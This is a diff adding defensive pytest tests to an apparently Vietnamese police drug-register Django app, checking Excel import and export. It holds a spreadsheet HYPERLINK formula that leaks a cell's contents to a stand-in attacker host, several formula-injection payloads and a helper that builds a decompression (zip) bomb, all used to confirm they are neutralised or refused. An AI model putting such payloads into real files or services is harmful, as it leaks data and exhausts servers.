@@ -7,6 +7,7 @@ import datetime as dt
 import io
 import os
 import time
+import zipfile
 
 import pytest
 from django.core.exceptions import PermissionDenied
@@ -18,7 +19,16 @@ from openpyxl import Workbook, load_workbook
 
 from subjects import excel, services
 from subjects.excel.persons import PersonImport
-from subjects.models import AccessAction, AccessLog, DrugTest, Person, PersonStatus, StatusKind
+from subjects.models import (
+    AccessAction,
+    AccessLog,
+    DrugPoint,
+    DrugTest,
+    HouseholdCommitment,
+    Person,
+    PersonStatus,
+    StatusKind,
+)
 from tests.factories import DrugTestFactory, PersonFactory
 
 
@@ -841,3 +851,211 @@ def test_only_commune_police_may_open_the_import_pages(tree, people, login, uplo
 def test_anonymous_visitors_are_sent_to_sign_in(client):
     response = client.get(reverse("subjects:import_start"))
     assert response.status_code == 302 and reverse("login") in response.url
+
+
+# ---------------------------------------------------------------- formula injection (issue 12 #4)
+
+FORMULA = '=HYPERLINK("http://evil.example/?leak="&B2,"Bấm vào đây")'
+
+
+@pytest.mark.django_db
+@pytest.mark.parametrize("text", [FORMULA, "+1+2", "-2+3", "@SUM(A1)", "\t=1+1", "\r=1+1"])
+def test_exported_text_that_could_start_a_formula_stays_text(tree, text):
+    PersonFactory(full_name="Lò Văn Sáng", address=text, village=tree.ta_leng)
+    data = excel.export_xlsx(model=Person, queryset=Person.objects.all(), fields=["full_name", "address"])
+    cell = load_workbook(io.BytesIO(data)).worksheets[0].cell(row=2, column=2)
+    assert cell.data_type == "s"
+    assert cell.value == text
+    assert cell.quotePrefix
+
+
+def test_report_sheets_write_user_text_as_text_too():
+    from reports.output import _sheet
+
+    workbook = Workbook()
+    _sheet(workbook, "Bảng", ["Đơn vị", "Số"], [[FORMULA, 3]], [20, 8])
+    buffer = io.BytesIO()
+    workbook.save(buffer)
+    sheet = load_workbook(io.BytesIO(buffer.getvalue()))["Bảng"]
+    assert (sheet["A2"].data_type, sheet["A2"].value) == ("s", FORMULA)
+    assert sheet["B2"].value == 3 and sheet["B2"].data_type == "n"
+
+
+# ---------------------------------------------------------------- import bombs (issue 12 #8)
+
+
+def _bomb(member: str, size: int) -> bytes:
+    """A real workbook with one member replaced by `size` bytes of one repeated character."""
+    source = zipfile.ZipFile(xlsx(PERSON_HEADERS, CLEAN_PERSONS))
+    buffer = io.BytesIO()
+    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as out:
+        for info in source.infolist():
+            if info.filename != member:
+                out.writestr(info, source.read(info.filename))
+        with out.open(member, "w") as target:
+            chunk = b"A" * (1024 * 1024)
+            for _ in range(size // len(chunk)):
+                target.write(chunk)
+    return buffer.getvalue()
+
+
+@pytest.mark.django_db
+def test_a_small_file_that_expands_enormously_is_refused_before_parsing(tree, people):
+    content = _bomb("xl/worksheets/sheet1.xml", 200 * 1024 * 1024)
+    assert len(content) < 1024 * 1024
+    started = time.perf_counter()
+    with pytest.raises(excel.ImportFileError, match="giải nén ra quá lớn"):
+        services.check_import(kind="persons", file=io.BytesIO(content), user=people.commune_police)
+    assert time.perf_counter() - started < 5  # not parsed: a bound, not a timing measurement
+
+
+@pytest.mark.django_db
+def test_a_member_compressed_far_beyond_what_a_register_does_is_refused(tree, people):
+    content = _bomb("xl/sharedStrings.xml", 20 * 1024 * 1024)
+    with pytest.raises(excel.ImportFileError, match="nén bất thường"):
+        services.check_import(kind="persons", file=io.BytesIO(content), user=people.commune_police)
+
+
+@pytest.mark.django_db
+def test_a_cell_longer_than_any_register_field_is_refused_with_its_place(tree, people):
+    upload = xlsx(PERSON_HEADERS, [person_row(), person_row("x" * 20_000, cccd="")])
+    with pytest.raises(excel.ImportFileError, match="Dòng 3, cột “Họ và tên”"):
+        services.check_import(kind="persons", file=upload, user=people.commune_police)
+
+
+@pytest.mark.django_db
+def test_only_the_first_columns_are_read_and_too_many_rows_are_refused(tree, people, monkeypatch):
+    from subjects.excel import reading
+
+    wide = PERSON_HEADERS + [f"Cột {n}" for n in range(100)]
+    check = services.check_import(
+        kind="persons",
+        file=xlsx(wide, [row + ["x"] * 100 for row in CLEAN_PERSONS]),
+        user=people.commune_police,
+    )
+    assert check.ok, check.problems
+    monkeypatch.setattr(reading, "MAX_ROWS", 1)
+    with pytest.raises(excel.ImportFileError, match="quá nhiều dòng"):
+        services.check_import(
+            kind="persons", file=xlsx(PERSON_HEADERS, CLEAN_PERSONS), user=people.commune_police
+        )
+
+
+# ---------------------------------------------------------------- row numbers (issue 12 #14)
+
+
+@pytest.mark.django_db
+def test_row_numbers_are_shown_without_a_thousands_separator(tree, people, login, uploads):
+    rows = [person_row(f"Người Thử {n}", cccd=f"0030{n:08d}") for n in range(5003)]
+    rows.append(person_row("Lò Văn Cuối", cccd="123"))  # row 5005
+    response = upload_file(login(people.commune_police), xlsx(PERSON_HEADERS, rows, streamed=True).getvalue())
+    html = response.content.decode()
+    assert '<td class="text-end">5005</td>' in html
+    assert "5.005" not in html
+
+
+# ---------------------------------------------------------------- the other registers
+
+
+@pytest.mark.django_db
+def test_treatments_files_commitments_and_points_import_with_their_templates(tree, people):
+    person = PersonFactory(full_name="Lò Văn Sáng", cccd="001090000001", village=tree.ta_leng)
+    cases = {
+        "treatments": (
+            [
+                [
+                    "",
+                    "",
+                    "001090000001",
+                    "",
+                    "Điều trị thay thế (Methadone / Buprenorphine)",
+                    "Methadone",
+                    "01/02/2023",
+                    "",
+                    "Cơ sở Methadone",
+                    "Có",
+                    "Không",
+                ],
+            ],
+            lambda: list(
+                person.treatments.values_list("kind", "medication", "complies_with_rules", "uses_other_drugs")
+            ),
+            [("substitution", "methadone", True, False)],
+        ),
+        "files": (
+            [["", "", "001090000001", "", "Người nghiện ma túy", "05/01/2024", "Công an xã", ""]],
+            lambda: list(person.files.values_list("kind", "opened_on", "responsible")),
+            [("addict", dt.date(2024, 1, 5), "Công an xã")],
+        ),
+        "commitments": (
+            [["Bản Tả Lèng", "", "01/04/2024", 80, 78]],
+            lambda: list(HouseholdCommitment.objects.values_list("village", "kind", "households", "signed")),
+            [(tree.ta_leng.pk, "drug_free", 80, 78)],
+        ),
+        "points": (
+            [["Hô Sáo", "Điểm bán lẻ", "Lều rẫy cuối bản", "02/03/2024", ""]],
+            lambda: list(DrugPoint.objects.values_list("village", "kind", "description", "eliminated_on")),
+            [(tree.ho_sao.pk, "retail", "Lều rẫy cuối bản", None)],
+        ),
+    }
+    for kind, (rows, stored, expected) in cases.items():
+        workbook = load_workbook(io.BytesIO(excel.build_template(kind, user=people.commune_police)))
+        headers = [c.value for c in workbook["Dữ liệu"][1]]
+        sheet = workbook["Dữ liệu"]
+        for offset, row in enumerate(rows, start=2):
+            for column, value in enumerate(row, start=1):
+                sheet.cell(row=offset, column=column, value=value)
+        buffer = io.BytesIO()
+        workbook.save(buffer)
+        buffer.seek(0)
+        check = services.check_import(kind=kind, file=buffer, user=people.commune_police)
+        assert check.ok, (kind, headers, check.problems)
+        result = services.apply_import(check=check, user=people.commune_police)
+        assert result.created == len(rows)
+        assert stored() == expected, kind
+        # The same file again: the register's own unique rules or periods refuse nothing silently.
+        buffer.seek(0)
+        again = services.check_import(kind=kind, file=buffer, user=people.commune_police)
+        if kind in ("commitments", "points"):
+            assert not again.ok and "đã có" in again.problems[0].message.lower()
+
+
+@pytest.mark.django_db
+def test_rows_of_the_other_registers_are_refused_for_the_models_reasons(tree, people):
+    PersonFactory(
+        full_name="Lò Văn Sáng", cccd="001090000001", village=tree.ta_leng, birth_date=dt.date(1990, 1, 1)
+    )
+    files = services.check_import(
+        kind="files",
+        file=xlsx(
+            [
+                "Số CCCD",
+                "Loại hồ sơ",
+                "Ngày lập",
+                "Người, tổ chức được giao quản lý",
+                "Ngày kết thúc quản lý",
+            ],
+            [["001090000001", "Người nghiện ma túy", "05/01/2024", "Công an xã", "01/01/2024"]],
+        ),
+        user=people.commune_police,
+    )
+    assert problems_by_cell(files) == {
+        (2, "Ngày kết thúc quản lý"): "Ngày kết thúc quản lý không được trước ngày lập hồ sơ."
+    }
+    commitments = services.check_import(
+        kind="commitments",
+        file=xlsx(
+            ["Thôn, bản", "Tính đến ngày", "Tổng số hộ", "Số hộ đã ký"], [["Tả Lèng", "01/04/2024", 80, 81]]
+        ),
+        user=people.commune_police,
+    )
+    assert problems_by_cell(commitments) == {(2, "Số hộ đã ký"): "Số hộ đã ký không được lớn hơn tổng số hộ."}
+    treatments = services.check_import(
+        kind="treatments",
+        file=xlsx(
+            ["Số CCCD", "Hình thức", "Ngày bắt đầu"],
+            [["001090000001", "Cai nghiện bắt buộc tại cơ sở", "01/01/1980"]],
+        ),
+        user=people.commune_police,
+    )
+    assert problems_by_cell(treatments) == {(2, "Ngày bắt đầu"): "Ngày bắt đầu không được trước ngày sinh."}
